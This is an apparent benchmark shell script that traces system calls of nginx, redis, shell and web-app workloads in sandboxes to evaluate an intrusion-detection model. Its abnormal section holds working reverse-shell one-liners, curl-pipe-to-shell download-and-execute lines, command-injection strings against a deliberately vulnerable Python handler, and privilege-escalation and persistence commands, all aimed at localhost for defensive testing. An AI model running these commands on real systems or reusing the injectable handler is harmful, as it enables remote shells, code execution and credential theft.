#!/bin/bash
# Records system-call traces (`ward trace`, one per process) from real
# programs in ward sandboxes and evaluates the sequence model on them:
#   normal:   nginx under wrk/curl, redis-server under redis-benchmark and
#             BGSAVE, shell pipelines, a small Python web app doing lookups;
#   abnormal: a shell spawned through the web app (command injection), a
#             reverse shell connecting out, download-and-execute,
#             privilege-escalation attempts.
# Normal traces are split by run: each workload's first 60 % of runs train the
# model, the others are held out and scored with every abnormal trace; `ward
# model eval` prints ROC AUC and the detection rate at <= 5 % false alarms. Each run also runs
# the live detector (injected-code rules) and counts its detections per class.
#
# usage: bench/model-eval.sh [OUTDIR]     (root; nginx-light redis-server wrk curl)
# env:   WARD (default build/src/cli/ward), RUNS (runs per workload, default 5),
#        NGRAM (default 4), WINDOW (default 16), PERCENTILE (threshold calibration, default 99),
#        TRACE_OPTS (more `ward trace` options, e.g. --supervisor)
set -uo pipefail
WARD=${WARD:-$(dirname "$0")/../build/src/cli/ward}
WARD=$(readlink -f "$WARD")
RUNS=${RUNS:-5}
NGRAM=${NGRAM:-4}
WINDOW=${WINDOW:-16}
OUT=${1:-$(mktemp -d /tmp/ward-model-eval.XXXXXX)}
mkdir -p "$OUT"
OUT=$(readlink -f "$OUT")
for t in nginx redis-server redis-benchmark redis-cli wrk curl python3 bash; do
  command -v "$t" >/dev/null || { echo "model-eval: $t is missing (apt-get install nginx-light redis-server wrk curl)" >&2; exit 1; }
done
# host-side files the sandboxes read (the sandbox sees the host's / read-only, /tmp is private)
W=$(mktemp -d /var/tmp/ward-model-eval.XXXXXX)
chmod 755 "$W"
BASE=$((20000 + RANDOM % 20000))
PIDS=()
cleanup() {
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  wait 2>/dev/null
  rm -rf "$W"
}
trap cleanup EXIT

mkdir -p "$W/www"
for i in $(seq 1 30); do head -c $((i * 700)) /dev/urandom | base64 > "$W/www/page$i.html"; done
echo '<html>hello</html>' > "$W/www/index.html"
cat > "$W/nginx.conf" <<EOF
user root root;
worker_processes 2;
pid /tmp/nginx.pid;
error_log /tmp/nginx-error.log;
events { worker_connections 256; }
http {
  access_log /tmp/access.log;
  client_body_temp_path /tmp/cb; proxy_temp_path /tmp/pt; fastcgi_temp_path /tmp/ft;
  uwsgi_temp_path /tmp/ut; scgi_temp_path /tmp/st;
  server { listen 127.0.0.1:$((BASE + 1)); root $W/www; }
}
EOF
# a small web app with a command injection: /lookup?host=X runs "getent hosts X" through a shell
cat > "$W/webapp.py" <<'EOF'
import http.server, os, signal, sys, urllib.parse
# pid 1 of its namespace: only signals with a handler reach it
signal.signal(signal.SIGTERM, lambda *a: sys.exit(0))
signal.signal(signal.SIGINT, lambda *a: sys.exit(0))
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        q = urllib.parse.parse_qs(u.query)
        if u.path == "/lookup":
            body = os.popen("getent hosts " + q.get("host", ["localhost"])[0]).read().encode()
        elif u.path == "/file":
            name = os.path.basename(q.get("name", ["index.html"])[0])
            try:
                body = open(os.path.join(sys.argv[2], name), "rb").read()
            except OSError:
                body = b"missing"
        else:
            body = b"ok"
        self.send_response(200); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
EOF
# payloads for download-and-execute, served from the host
mkdir -p "$W/dl"
printf '#!/bin/sh\nid\nuname -a\ncat /etc/hostname\nls /root 2>/dev/null\n' > "$W/dl/payload.sh"
cp /usr/bin/id "$W/dl/tool"
# a listener for reverse shells: sends commands, reads the answers
cat > "$W/listener.py" <<'EOF'
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(8); s.settimeout(60)
while True:
    try:
        c, _ = s.accept()
    except socket.timeout:
        break
    c.settimeout(5)
    c.sendall(b"id\nuname -a\ncat /etc/passwd | head -3\nexit\n")
    try:
        while c.recv(4096): pass
    except OSError: pass
    c.close()
EOF
chmod -R a+rX "$W"

wait_port() {
  for _ in $(seq 1 300); do
    (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null && return 0
    sleep 0.05
  done
  echo "model-eval: nothing listens on port $1" >&2
  return 1
}

# trace CLASS NAME [trace options] -- CMD...: a foreground run
trace() {
  local class=$1 name=$2
  shift 2
  mkdir -p "$OUT/$class" "$OUT/detect/$class"
  "$WARD" trace --net host -o "$OUT/$class" --prefix "$name" --name "det-ev-$$-$name" \
    --detect "$OUT/detect/$class/$name.jsonl" ${TRACE_OPTS:-} "$@" >/dev/null 2>>"$OUT/trace.log"
}

# serve CLASS NAME PORT -- CMD...: a server run in the background; the load
# is the caller's; stop with stop_server
serve() {
  local class=$1 name=$2 port=$3
  shift 3
  mkdir -p "$OUT/$class" "$OUT/detect/$class"
  "$WARD" trace --net host -o "$OUT/$class" --prefix "$name" --name "det-ev-$$-$name" \
    --detect "$OUT/detect/$class/$name.jsonl" ${TRACE_OPTS:-} "$@" >/dev/null 2>>"$OUT/trace.log" &
  SERVER=$!
  wait_port "$port"
}
stop_server() {
  kill -TERM "$SERVER" 2>/dev/null
  wait "$SERVER" 2>/dev/null
}

echo "recording into $OUT (runs per workload: $RUNS)" >&2
HTTP=$((BASE + 1)) REDIS=$((BASE + 2)) APP=$((BASE + 3)) DL=$((BASE + 4)) REV=$((BASE + 5))

# ---- normal ----
for r in $(seq 1 "$RUNS"); do
  serve normal "nginx$r" $HTTP -- nginx -p /tmp -c "$W/nginx.conf" -g 'daemon off;' || exit 1
  wrk -t1 -c$((r * 2)) -d2s "http://127.0.0.1:$HTTP/page$((r * 5)).html" >/dev/null
  for i in $(seq 1 40); do curl -s -o /dev/null "http://127.0.0.1:$HTTP/page$(((i * r) % 35)).html"; done
  curl -sI "http://127.0.0.1:$HTTP/" >/dev/null
  stop_server

  serve normal "redis$r" $REDIS -- redis-server --port $REDIS --bind 127.0.0.1 --dir /tmp --save '' --appendonly no || exit 1
  redis-benchmark -p $REDIS -q -n $((2000 * r)) -c $((r + 1)) -t set,get,incr,lpush,lpop,hset >/dev/null
  [ $((r % 2)) = 1 ] && redis-cli -p $REDIS bgsave >/dev/null && sleep 0.5
  redis-cli -p $REDIS info >/dev/null
  stop_server

  serve normal "webapp$r" $APP -- python3 "$W/webapp.py" $APP "$W/www" || exit 1
  for h in localhost ip6-localhost localhost; do curl -s -o /dev/null "http://127.0.0.1:$APP/lookup?host=$h"; done
  for i in $(seq 1 10); do curl -s -o /dev/null "http://127.0.0.1:$APP/file?name=page$((i + r)).html"; done
  stop_server
done
shell_scripts=(
  'ls -l /usr/bin | grep -c x; sort /etc/passwd | cut -d: -f1 | head -5; wc -l /etc/services'
  'find /etc -name "*.conf" 2>/dev/null | head -20 | xargs -r ls -l >/dev/null; du -s /usr/share/doc 2>/dev/null | tail -1'
  'tar cf /tmp/a.tar /etc/hostname /etc/hosts 2>/dev/null; gzip -9 /tmp/a.tar; gunzip -c /tmp/a.tar.gz | tar tf - ; rm -f /tmp/a.tar.gz'
  'for i in 1 2 3 4 5; do echo line $i; done | awk "{s+=\$2} END {print s}"; seq 1 1000 | sort -rn | head -3; date +%s'
  'cp /etc/services /tmp/s; sed -i "s/tcp/TCP/g" /tmp/s; grep -c TCP /tmp/s; md5sum /tmp/s; rm /tmp/s'
  'cat /etc/os-release | grep ^ID; uname -r; env | sort | head -3; mkdir -p /tmp/d/e; touch /tmp/d/e/f; ls -R /tmp/d; rm -r /tmp/d'
  'bash -c "for f in /etc/h*; do [ -f \$f ] && head -1 \$f; done"; basename /usr/lib/x; dirname /a/b/c; stat -c %s /etc/passwd'
  'python3 -c "import json,sys; print(json.dumps({\"a\": [1,2,3]}))" | tr a-z A-Z; printf "%s\n" b a c | sort | uniq -c'
)
for r in $(seq 1 "$RUNS"); do
  for s in "${!shell_scripts[@]}"; do
    trace normal "shell$r.$s" -- sh -c "${shell_scripts[$s]}"
  done
done

# ---- abnormal ----
python3 -m http.server $DL --bind 127.0.0.1 --directory "$W/dl" >/dev/null 2>&1 &
PIDS+=($!)
python3 "$W/listener.py" $REV &
PIDS+=($!)
wait_port $DL || exit 1
injections=(
  'x;id'
  'x;cat /etc/passwd;uname -a'
  'x;ls -la /;cat /proc/self/status'
  "x;curl -s http://127.0.0.1:$DL/payload.sh|sh"
  'x;sh -c whoami;ps'
)
for r in $(seq 1 "$RUNS"); do
  serve abnormal "webshell$r" $APP -- python3 "$W/webapp.py" $APP "$W/www" || exit 1
  curl -s -o /dev/null "http://127.0.0.1:$APP/lookup?host=localhost"
  inj=${injections[$(((r - 1) % ${#injections[@]}))]}
  curl -s -o /dev/null -G "http://127.0.0.1:$APP/lookup" --data-urlencode "host=$inj"
  stop_server
done
reverse=(
  "bash -c 'bash -i >& /dev/tcp/127.0.0.1/$REV 0>&1'"
  "python3 -c 'import socket,os,subprocess;s=socket.create_connection((\"127.0.0.1\",$REV));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"
  "busybox nc 127.0.0.1 $REV -e /bin/sh"
  "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in($REV,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\")'"
)
for r in $(seq 1 "$RUNS"); do
  trace abnormal "reverse$r" -- sh -c "${reverse[$(((r - 1) % ${#reverse[@]}))]}"
done
download=(
  "curl -s -o /tmp/p http://127.0.0.1:$DL/payload.sh; chmod +x /tmp/p; /tmp/p"
  "wget -q -O /tmp/t http://127.0.0.1:$DL/tool; chmod 755 /tmp/t; /tmp/t"
  "curl -s http://127.0.0.1:$DL/payload.sh | sh"
  "python3 -c 'import urllib.request,os;open(\"/tmp/q\",\"wb\").write(urllib.request.urlopen(\"http://127.0.0.1:$DL/tool\").read());os.chmod(\"/tmp/q\",0o755);os.execv(\"/tmp/q\",[\"q\"])'"
)
for r in $(seq 1 "$RUNS"); do
  trace abnormal "download$r" -- sh -c "${download[$(((r - 1) % ${#download[@]}))]}"
done
privesc=(
  'su -c id root </dev/null; echo "evil::0:0::/root:/bin/sh" >> /etc/passwd; id'
  'find / -xdev -perm -4000 -type f 2>/dev/null | head; cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh; /tmp/sh -p -c id'
  'python3 -c "import os; os.setuid(0); os.setgid(0); print(open(\"/etc/shadow\").read())"; cat /etc/shadow'
  'echo "* * * * * root sh -i" > /etc/cron.d/x; echo /tmp/x.so > /etc/ld.so.preload; chmod u+s /bin/bash; id'
)
for r in $(seq 1 "$RUNS"); do
  trace abnormal "privesc$r" -- sh -c "${privesc[$(((r - 1) % ${#privesc[@]}))]}"
done

# ---- evaluation ----
# split NORMAL_DIR OUT: every workload's first 60 % of runs to OUT/train (runs
# 1-3 of 5), the rest to OUT/test: each application is trained on some runs
# and judged on others it did not see
split() {
  mkdir -p "$2/train" "$2/test"
  local cut=$(( (RUNS * 6 + 9) / 10 ))
  for f in "$1"/*; do
    r=$(basename "$f" | sed 's/^[a-z]*\([0-9]*\).*/\1/')
    if [ "$r" -le "$cut" ]; then cp "$f" "$2/train/"; else cp "$f" "$2/test/"; fi
  done
}
# evaluate NAME NORMAL_DIR ABNORMAL_DIR: train on the first runs' normal traces, score the rest and the abnormal ones
evaluate() {
  local name=$1 dir=$OUT/eval-$1
  split "$2" "$dir"
  echo "== $name: normal $(ls "$2" | wc -l) (train $(ls "$dir/train" | wc -l), held out $(ls "$dir/test" | wc -l)), abnormal $(ls "$3" | wc -l)"
  "$WARD" model train -n "$NGRAM" --window "$WINDOW" --percentile "$PERCENTILE" "$dir/train" -o "$dir/model.json" 2>&1
  "$WARD" model score "$dir/model.json" "$dir/test" "$3" > "$dir/scores.txt"
  "$WARD" model eval "$dir/model.json" --normal "$dir/test" --abnormal "$3"
  "$WARD" model eval --json "$dir/model.json" --normal "$dir/test" --abnormal "$3" > "$dir/eval.json"
}
PERCENTILE=${PERCENTILE:-99}
# one trace per process, as recorded
evaluate per-process "$OUT/normal" "$OUT/abnormal"
# one trace per run: a run's process traces concatenated in pid order
for class in normal abnormal; do
  mkdir -p "$OUT/runs/$class"
  for f in "$OUT/$class"/*; do b=$(basename "$f"); echo "${b%%-*} $b"; done | sort -k1,1 -k2,2V |
    while read -r run file; do cat "$OUT/$class/$file" >> "$OUT/runs/$class/$run"; done
done
evaluate per-run "$OUT/runs/normal" "$OUT/runs/abnormal"
echo "== live detector (injected-code rules), detections per run class:"
for class in normal abnormal; do
  runs=$(ls "$OUT/detect/$class" | wc -l)
  hit=$(for f in "$OUT/detect/$class"/*.jsonl; do [ -s "$f" ] && echo "$f"; done | wc -l)
  rules=$(cat "$OUT/detect/$class"/*.jsonl 2>/dev/null | sed 's/.*"rule":"\([^"]*\)".*/\1/' | sort | uniq -c | tr '\n' ' ')
  echo "  $class: $hit of $runs runs raised detections; rules: ${rules:-none}"
done
echo "results in $OUT"
